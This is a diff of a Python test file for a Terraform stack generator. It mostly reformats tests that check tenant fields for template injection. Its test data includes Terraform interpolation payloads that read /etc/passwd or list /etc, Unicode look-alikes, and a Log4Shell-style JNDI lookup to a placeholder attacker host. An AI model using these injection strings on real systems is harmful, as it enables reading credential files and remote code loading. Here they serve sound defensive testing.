@@ -29,15 +29,20 @@ from tests.tenant_specs import set_path, spec
 TERRAFORM = shutil.which("terraform") or "/usr/local/bin/terraform"
 ATTACKS = [
     '${file("/etc/passwd")}',
-    "x ${file(\"/etc/passwd\")} y",
+    'x ${file("/etc/passwd")} y',
     '%{ for f in fileset("/etc", "*") }${f}%{ endfor }',
     "%{if true}x%{endif}",
-    "$${file(\"/etc/passwd\")}",  # written pre-escaped: still not plain text a spec should hold
+    '$${file("/etc/passwd")}',  # written pre-escaped: still not plain text a spec should hold
     "${ local.x }",
     "${path.root}",
 ]
 # Only ASCII `$`, `%` and `{` open a sequence: these look-alikes are plain text to Terraform.
-LOOK_ALIKES = ['\uff04\uff5bfile("/etc/passwd")\uff5d', '\ufe69{file("/etc/passwd")}', '$\uff5bx}', "100% {sure}"]
+LOOK_ALIKES = [
+    '\uff04\uff5bfile("/etc/passwd")\uff5d',
+    '\ufe69{file("/etc/passwd")}',
+    "$\uff5bx}",
+    "100% {sure}",
+]
 TENANT_FIELDS = [
     "metadata.display_name",
     "metadata.change.reason",
@@ -146,14 +151,22 @@ def test_the_scan_grammar_accepts_what_the_stacks_write_and_nothing_else() -> No
     assert [s for text in plain for s in foreign_templates(text)] == []
     assert list(foreign_templates({'${file("/etc/passwd")}': "key"})) == ['${file("/etc/passwd")}']
     assert list(foreign_templates(["${aws_s3_bucket.b.arn}${upper(x)}"])) == ["${upper(x)}"]
-    assert list(foreign_templates({"a": [{"b": "%{ if true }x%{ endif }"}]})) == ["%{ if true }", "%{ endif }"]
+    assert list(foreign_templates({"a": [{"b": "%{ if true }x%{ endif }"}]})) == [
+        "%{ if true }",
+        "%{ endif }",
+    ]
 
 
 def terraform(folder: Path, *args: str) -> str:
     done = subprocess.run(
         [TERRAFORM, *args],
         cwd=folder,
-        env={"HOME": str(folder), "PATH": "/usr/bin:/bin", "TF_IN_AUTOMATION": "1", "CHECKPOINT_DISABLE": "1"},
+        env={
+            "HOME": str(folder),
+            "PATH": "/usr/bin:/bin",
+            "TF_IN_AUTOMATION": "1",
+            "CHECKPOINT_DISABLE": "1",
+        },
         capture_output=True,
         text=True,
         timeout=120,
@@ -200,9 +213,13 @@ def test_blocked_keywords_reach_the_json_escaped_and_plan_literally(tmp_path: Pa
     keywords = ["${jndi:ldap://evil.example/a}", '%{ for f in fileset("/", "*") }', "\uff04{x}"]
     environments = tmp_path / "environments"
     environments.mkdir()
-    (environments / "dev.yaml").write_text(yaml.safe_dump(environment(**{"serving.blocked_keywords": keywords})))
+    (environments / "dev.yaml").write_text(
+        yaml.safe_dump(environment(**{"serving.blocked_keywords": keywords}))
+    )
     (tmp_path / "tenants").mkdir()
-    out = synthesize("dev", tmp_path / "out", environments_dir=environments, tenants_dir=tmp_path / "tenants").out
+    out = synthesize(
+        "dev", tmp_path / "out", environments_dir=environments, tenants_dir=tmp_path / "tenants"
+    ).out
     written = [
         body["ai_gateway"]["guardrails"]["input"]["invalid_keywords"]
         for stack, kind, _, body in Synthesized.load(out).all_resources()
